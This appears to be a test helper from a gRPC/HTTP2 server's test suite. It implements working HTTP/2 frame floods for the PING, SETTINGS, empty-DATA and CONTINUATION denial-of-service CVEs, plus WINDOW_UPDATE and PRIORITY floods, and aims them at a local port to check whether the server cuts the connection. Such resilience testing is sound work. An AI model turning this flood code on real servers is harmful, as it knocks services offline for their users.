/**
 * An HTTP/2 frame flood in a process of its own (see attacker-process.ts): one connection
 * that sends the same frame again and again, as fast as the server reads, until the server
 * closes the connection or the time is up. The floods are the HTTP/2 denial-of-service
 * attacks of CVE-2019-9512 (PING), CVE-2019-9515 (SETTINGS), CVE-2019-9518 (empty DATA
 * frames) and CVE-2024-27316 (CONTINUATION frames that never end a header block), which
 * nghttp2 stops by itself, and floods of WINDOW_UPDATE and PRIORITY frames, which it reads
 * as fast as they come: each costs the server work, or queued answers, and the client next
 * to nothing.
 */
import { attackerProcess } from "./attacker-process.js";

export type Flood = "ping" | "settings" | "empty-data" | "continuation" | "window-update" | "priority";

const ATTACK = `
const net = require("node:net");
const [port, localAddress, flood, ms] = [Number(process.argv[1]), process.argv[2], process.argv[3], Number(process.argv[4])];
const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
// HPACK literals without indexing (RFC 7541, 6.2.2).
const literal = (name, value) => Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
const request = (path) => Buffer.concat(
  [[":method", "POST"], [":scheme", "http"], [":authority", "localhost"], [":path", path], ["content-type", "application/grpc"]]
    .map(([name, value]) => literal(name, value)),
);
const [DATA, HEADERS, PRIORITY, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION] = [0x0, 0x1, 0x2, 0x4, 0x6, 0x8, 0x9];
const [END_STREAM, END_HEADERS] = [0x1, 0x4];
// A health Watch: a call that stays open, so the connection is neither a squatter nor idle.
const watch = Buffer.concat([frame(HEADERS, END_HEADERS, 1, request("/grpc.health.v1.Health/Watch")), frame(DATA, END_STREAM, 1, Buffer.alloc(5))]);
// What goes once, after the preface: a stream for the floods that need one, a call under way for those of frames that are no call.
const opening = {
  "empty-data": frame(HEADERS, END_HEADERS, 1, request("/grpc.health.v1.Health/Check")),
  continuation: frame(HEADERS, 0, 1, request("/grpc.health.v1.Health/Check")),
  "window-update": watch,
  priority: watch,
}[flood] ?? Buffer.alloc(0);
const repeated = {
  ping: frame(PING, 0, 0, Buffer.alloc(8)),
  settings: frame(SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])),
  "empty-data": frame(DATA, 0, 1),
  continuation: frame(CONTINUATION, 0, 1, literal("x-padding", "x".repeat(50))),
  // The connection's window, one byte more each time; and stream 1's weight, again and again.
  "window-update": frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])),
  priority: frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 16])),
}[flood];
const BURST = 500;
const burst = Buffer.concat(Array(BURST).fill(repeated));
const socket = net.connect({ port, host: "127.0.0.1", localAddress });
let frames = 0;
let closed = false;
socket.on("error", () => {});
socket.on("close", () => (closed = true));
// Read whatever the server answers: the flood is of frames, not of unread answers.
socket.resume();
socket.once("connect", async () => {
  socket.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"), frame(SETTINGS, 0, 0), opening]));
  const until = Date.now() + ms;
  while (!closed && Date.now() < until) {
    frames += BURST;
    if (!socket.write(burst)) await new Promise((resolve) => {
      const done = () => { socket.off("drain", done); socket.off("close", done); resolve(); };
      socket.on("drain", done);
      socket.on("close", done);
    });
    else await new Promise((resolve) => setImmediate(resolve));
  }
  const closedByServer = closed;
  socket.destroy();
  process.stdout.write(JSON.stringify({ frames, closedByServer }));
});
`;

export interface FloodReport {
  /** Frames sent before the connection closed or the time was up. */
  readonly frames: number;
  readonly closedByServer: boolean;
}

export function frameFloodAttack(port: number, localAddress: string, flood: Flood, ms: number): Promise<FloodReport> {
  return attackerProcess<FloodReport>(ATTACK, [String(port), localAddress, flood, String(ms)]);
}
